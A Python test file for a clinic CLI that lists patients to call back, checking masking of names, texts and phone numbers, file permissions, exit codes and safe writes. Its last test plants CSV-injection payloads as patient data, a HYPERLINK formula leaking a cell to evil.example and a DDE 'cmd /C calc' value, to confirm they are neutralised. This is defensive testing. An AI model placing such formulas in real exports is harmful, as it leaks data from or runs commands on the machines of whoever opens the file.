"""``smartia-jobs calls`` as a process: who may see what, files, and exit statuses."""

import csv
import io
import json
import os
import stat
from datetime import datetime, timedelta
from pathlib import Path

import pytest

from tests.jobs.calls_desk import CallsDesk
from tests.jobs.metrics_desk import SAO_PAULO
from tests.support import Clinic, RunCli
from tests.support.terminal import run_on_terminal

NAME, TEXT, PHONE = "Maria Souza", "posso levar minha filha?", "+5511987650077"
TYPED = "(11) 98765-0077"


@pytest.fixture
def desk(sqlite_clinic: Clinic) -> CallsDesk:
    """A clinic of this very moment: somebody has asked something about a visit of tomorrow."""
    now = datetime.now(SAO_PAULO).replace(tzinfo=None, second=0, microsecond=0)
    desk = CallsDesk(sqlite_clinic, now=now)
    visit = desk.visit(now + timedelta(days=1), name=NAME, phone=PHONE)
    desk.answer(desk.remind(visit), text=TEXT)
    return desk


def env_of(desk: CallsDesk) -> dict[str, str]:
    """Return the settings a process needs for this clinic."""
    return {"DATABASE_URL": desk.clinic.url}


@pytest.mark.parametrize("form", ["table", "json", "csv", "html"])
@pytest.mark.parametrize("asked", [(), ("--show-phones",)])
def test_a_pipe_gets_neither_names_nor_texts_nor_whole_phones(
    run_cli: RunCli, desk: CallsDesk, form: str, asked: tuple[str, ...]
) -> None:
    result = run_cli("calls", "--format", form, *asked, env=env_of(desk))

    assert result.exit_code == 0
    for secret in (NAME, "Maria", TEXT, "filha", PHONE, "98765", TYPED):
        assert secret not in result.stdout + result.stderr
    assert "+55 11 9****-0077" in result.stdout
    assert ("--output FILE has them" in result.stderr) == bool(asked)


@pytest.mark.parametrize("form", ["table", "json", "csv", "html"])
def test_a_file_has_names_texts_and_phones_and_only_its_owner_reads_it(
    run_cli: RunCli, desk: CallsDesk, tmp_path: Path, form: str
) -> None:
    output = tmp_path / "ligar"
    output.write_text("of the day before")
    output.chmod(0o644)

    result = run_cli("calls", "--format", form, "--output", str(output), env=env_of(desk))

    written = output.read_text(encoding="utf-8")
    assert (result.exit_code, result.stdout) == (0, "")
    assert NAME in written
    assert TEXT in written
    assert (PHONE if form == "json" else TYPED) in written
    assert stat.S_IMODE(output.stat().st_mode) == 0o600
    assert [path.name for path in tmp_path.glob("*ligar*")] == ["ligar"]
    assert not list(tmp_path.glob("*.part"))


@pytest.mark.parametrize(("asked", "phone"), [((), "9****-0077"), (("--show-phones",), TYPED)])
def test_a_terminal_shows_names_and_texts_and_whole_phones_when_asked(
    desk: CallsDesk, tmp_path: Path, asked: tuple[str, ...], phone: str
) -> None:
    result = run_on_terminal(
        "calls", *asked, env=env_of(desk), cwd=tmp_path, stdout_too=True, columns=120
    )

    assert result.exit_code == 0
    assert NAME in result.screen
    assert TEXT in result.screen
    assert phone in result.screen


def test_json_is_one_object_with_the_documented_keys(
    run_cli: RunCli, desk: CallsDesk, tmp_path: Path
) -> None:
    output = tmp_path / "calls.json"
    run_cli("calls", "--json", "--output", str(output), env=env_of(desk))

    body = json.loads(output.read_text())

    assert list(body) == ["job", "made_at", "day", "calls", "notes", "exit_code"]
    (call,) = body["calls"]
    start = desk.now + timedelta(days=1)
    assert call == {
        "appointment_id": 1,
        "patient_id": 1,
        "answer_id": 1,
        "start": start.isoformat(),
        "why": "unclear_answer",
        "also": [],
        "what": "Read the answer in WhatsApp, and reply to the patient.",
        "urgency": 4,
        "phone": PHONE,
        "name": NAME,
        "text": TEXT,
    }
    piped = run_cli("calls", "--json", env=env_of(desk))
    assert len(piped.stdout.splitlines()) == 1
    assert piped.json["calls"] == [
        {**call, "phone": "+55 11 9****-0077", "name": None, "text": None}
    ]


def test_a_day_is_today_tomorrow_or_a_date(run_cli: RunCli, desk: CallsDesk) -> None:
    tomorrow = (desk.now + timedelta(days=1)).date()

    lines = {
        day: len(run_cli("calls", "--json", "--day", day, env=env_of(desk)).json["calls"])
        for day in ("today", "tomorrow", str(tomorrow), "2026-01-31")
    }

    assert list(lines.values()) == [0, 1, 1, 0]
    for wrong in ("yesterday", "31/01/2026", "2026-02-30", "0001-01-01", "9999-12-31"):
        result = run_cli("calls", "--day", wrong, env=env_of(desk))
        assert (result.exit_code, result.stdout) == (2, "")
        assert "2026-11-23" in result.stderr


def test_an_empty_list_and_a_database_without_our_tables_end_well(
    run_cli: RunCli, clinic: Clinic
) -> None:
    env = {"DATABASE_URL": clinic.url, "STORED_TIMES": "wall"}

    result = run_cli("calls", "--json", env=env)

    assert result.exit_code == 0
    assert (result.json["calls"], result.json["notes"]) == ([], ["no_outbox"])
    assert run_cli("calls", env=env).stdout.startswith("0 to call")


def test_the_database_stays_byte_for_byte(run_cli: RunCli, desk: CallsDesk) -> None:
    path = Path(desk.clinic.url.removeprefix("sqlite:///"))
    before = path.read_bytes()

    run_cli("calls", env=env_of(desk))

    assert path.read_bytes() == before


def test_a_page_that_cannot_be_written_leaves_the_one_before(
    run_cli: RunCli, desk: CallsDesk, tmp_path: Path
) -> None:
    output = tmp_path / "ligar.html"
    output.write_text("of the hour before")
    env = {**env_of(desk), "DATABASE_URL": "postgresql://nobody@127.0.0.1:1/none"}

    result = run_cli("calls", "--format", "html", "--output", str(output), env=env)

    assert result.exit_code == 69
    assert output.read_text() == "of the hour before"
    missing = run_cli("calls", "--output", str(tmp_path / "none" / "a.html"), env=env_of(desk))
    assert missing.exit_code == 78
    assert f"Make it first: mkdir -p {tmp_path / 'none'}" in missing.stderr


def test_a_log_cannot_be_named_as_the_file(
    run_cli: RunCli, desk: CallsDesk, tmp_path: Path
) -> None:
    pipe = tmp_path / "pipe"
    os.mkfifo(pipe)

    for output in ("/dev/stdout", "/dev/stderr", "/dev/null", str(pipe)):
        result = run_cli("calls", "--output", output, env=env_of(desk))
        assert result.exit_code == 78, output
        assert NAME not in result.stdout + result.stderr


def test_the_settings_are_not_overwritten(run_cli: RunCli, desk: CallsDesk, tmp_path: Path) -> None:
    settings, token = tmp_path / "clinic.env", tmp_path / "token"
    token.write_text("a-token")
    settings.write_text(f"DATABASE_URL={desk.clinic.url}\nMETA_ACCESS_TOKEN_FILE={token}\n")
    kept = settings.read_text()

    for output in (settings, token):
        result = run_cli("calls", "--env-file", str(settings), "--output", str(output))
        assert result.exit_code == 78
        assert "nothing was written" in result.stderr
    assert (settings.read_text(), token.read_text()) == (kept, "a-token")


def test_what_a_patient_wrote_is_no_formula(
    run_cli: RunCli, desk: CallsDesk, tmp_path: Path
) -> None:
    formula = '=HYPERLINK("http://evil.example?"&A1;"x")'
    visit = desk.visit(desk.now + timedelta(days=1), name='+cmd|"/C calc"!A0', phone="+14155550132")
    desk.answer(desk.remind(visit), "move", text=formula, holds=visit)
    output = tmp_path / "ligar.csv"

    run_cli("calls", "--format", "csv", "--output", str(output), env=env_of(desk))

    data = output.read_bytes()
    assert data.startswith(b"\xef\xbb\xbf")
    heading, *rows = csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), delimiter=";")
    assert rows[0][heading.index("resposta")] == f"'{formula}"
    assert not [cell for row in rows for cell in row if cell.startswith(("=", "+", "-", "@"))]
    assert rows[1][heading.index("telefone")] == TYPED
